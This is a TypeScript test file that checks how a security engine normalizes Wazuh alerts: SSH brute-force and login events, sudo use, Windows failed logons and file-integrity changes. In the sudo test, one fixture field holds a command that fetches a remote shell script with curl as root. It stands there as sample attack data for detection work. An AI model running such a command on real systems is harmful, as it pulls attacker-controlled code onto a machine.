import { describe, expect, it } from 'vitest';
import { normalize } from '../../../src/engine/normalize/index.js';
import { AlertFormat } from '../../../src/engine/types.js';
import { fixtureJson, NOW } from './helpers.js';

const json = (value: Record<string, unknown>) => normalize({ kind: 'json', value }, { now: NOW });

describe('Wazuh alerts', () => {
  it('maps an sshd brute-force alert (rule 5712)', () => {
    const event = json(fixtureJson('normalize/wazuh-sshd-5712.json'));
    expect(event).toMatchObject({
      format: AlertFormat.WAZUH,
      message: 'Mar 12 10:15:41 web-01 sshd[2235]: Invalid user admin from 203.0.113.45 port 51122',
      timestamp: Date.UTC(2024, 2, 12, 10, 15, 41, 512),
      host: 'web-01',
      program: 'sshd',
      srcIp: '203.0.113.45',
      srcPort: 51122,
      user: 'admin',
      ruleId: '5712',
      ruleLevel: 10,
      ruleDescription: 'sshd: brute force trying to get access to the system. Non existent user.',
      ruleGroups: ['syslog', 'sshd', 'authentication_failures'],
      mitreTechniques: ['T1110'],
      action: 'ssh_login',
      outcome: 'failure',
    });
    expect(event.targetUser).toBeUndefined();
    expect(event.fields).toMatchObject({
      'rule.id': '5712',
      'rule.level': 10,
      'rule.groups.2': 'authentication_failures',
      'rule.mitre.technique.0': 'Brute Force',
      'agent.ip': '10.0.1.15',
      'data.srcport': '51122',
      location: '/var/log/auth.log',
    });
  });

  it('takes the account of a successful login from dstuser (rule 5715)', () => {
    const event = json(fixtureJson('normalize/wazuh-sshd-5715.json'));
    expect(event).toMatchObject({ user: 'deploy', srcIp: '203.0.113.45', ruleLevel: 3, outcome: 'success', mitreTechniques: ['T1078', 'T1021'] });
    expect(event.targetUser).toBeUndefined();
  });

  it('maps sudo with acting and target users and the command (rule 5402)', () => {
    const event = json(fixtureJson('normalize/wazuh-sudo-5402.json'));
    expect(event).toMatchObject({
      program: 'sudo',
      user: 'deploy',
      targetUser: 'root',
      commandLine: '/usr/bin/curl -s http://198.51.100.7/x.sh',
      mitreTechniques: ['T1548.003'],
      fields: { 'msg.pwd': '/home/deploy' },
    });
  });

  it('reads Windows event data of the eventchannel decoder', () => {
    const event = json(fixtureJson('normalize/wazuh-windows-60122.json'));
    expect(event).toMatchObject({
      format: AlertFormat.WAZUH,
      host: 'DC01',
      eventId: '4625',
      user: 'administrator',
      targetUser: 'administrator',
      srcIp: '198.51.100.66',
      srcPort: 49822,
      outcome: 'failure',
      ruleId: '60122',
      ruleLevel: 5,
      vendor: 'Microsoft',
      product: 'Microsoft-Windows-Security-Auditing',
      timestamp: Date.UTC(2024, 2, 12, 11, 2, 45, 118),
    });
    expect(event.message.startsWith('An account failed to log on.')).toBe(true);
    expect(event.fields['data.win.eventdata.logonType']).toBe('3');
  });

  it('fills gaps from full_log when the decoder extracted nothing', () => {
    const event = json({
      timestamp: '2024-03-12T10:00:00.000+0000',
      rule: { level: 5, description: 'sshd: authentication failed.', id: '5716', groups: ['syslog', 'sshd', 'authentication_failed'] },
      agent: { id: '000', name: 'wazuh-manager' },
      full_log: 'Mar 12 10:00:00 wazuh-manager sshd[9]: Failed password for invalid user guest from 192.0.2.44 port 40000 ssh2',
      decoder: { name: 'sshd' },
    });
    expect(event).toMatchObject({ user: 'guest', srcIp: '192.0.2.44', srcPort: 40000, ruleLevel: 5, ruleGroups: ['syslog', 'sshd', 'authentication_failed'] });
  });

  it('falls back to the rule description and tolerates odd types', () => {
    const event = json({ rule: { level: '7', description: 'Integrity checksum changed.', id: 550, mitre: { id: 'T1565.001' }, groups: 'ossec' }, agent: { name: 'db-2' }, syscheck: { path: '/etc/passwd', sha256_after: 'ab'.repeat(32), event: 'modified' } });
    expect(event).toMatchObject({
      format: AlertFormat.WAZUH,
      message: 'Integrity checksum changed.',
      ruleId: '550',
      ruleLevel: 7,
      ruleGroups: ['ossec'],
      mitreTechniques: ['T1565.001'],
      file: '/etc/passwd',
      hash: 'ab'.repeat(32),
      action: 'modified',
    });
  });
});
